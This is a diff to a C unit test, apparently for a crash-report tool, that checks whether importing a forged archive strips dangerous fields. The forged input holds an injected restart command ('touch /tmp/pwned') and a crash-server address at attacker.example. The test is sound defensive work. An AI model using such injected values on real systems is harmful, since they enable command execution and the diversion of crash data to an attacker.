@@ -519,7 +519,8 @@ test_ctl_import (void)
   }
 }
 
-/* An archive cannot tell Postmortem how to start a program: Reopen would run it. */
+/* An archive cannot tell Postmortem how to start a program (Reopen would run it), nor
+ * where to send the report (the program's own crash server). */
 static void
 test_restart_not_imported (void)
 {
@@ -528,7 +529,8 @@ test_restart_not_imported (void)
   g_autofree char *wer = recent_wer ("aaaaaaaa-6666-3333-4444-555555555555",
                                      "Postmortem.RestartCommandLine=-c 'touch /tmp/pwned'\n"
                                      "Postmortem.RestartFlags=0\nPostmortem.RestartDirectory=/\n"
-                                     "Postmortem.RunTimeSeconds=600\n");
+                                     "Postmortem.RunTimeSeconds=600\n"
+                                     "Postmortem.CrashServer=https://attacker.example/submit\n");
   g_autofree char *archive = write_report_tar ("restart", wer, "MDMP forged but harmless");
   g_autoptr(GPtrArray) keys = pm_store_import_archive (store, archive, &error);
   g_autoptr(PmReport) report = NULL;
@@ -540,6 +542,7 @@ test_restart_not_imported (void)
   g_assert_null (pm_report_get_value (report, "Postmortem.RestartCommandLine"));
   g_assert_null (pm_report_get_value (report, "Postmortem.RestartFlags"));
   g_assert_null (pm_report_get_value (report, "Postmortem.RestartDirectory"));
+  g_assert_null (pm_report_get_value (report, "Postmortem.CrashServer"));
   /* A fact about the crash, harmless alone: kept. */
   g_assert_cmpstr (pm_report_get_value (report, "Postmortem.RunTimeSeconds"), ==, "600");
 }
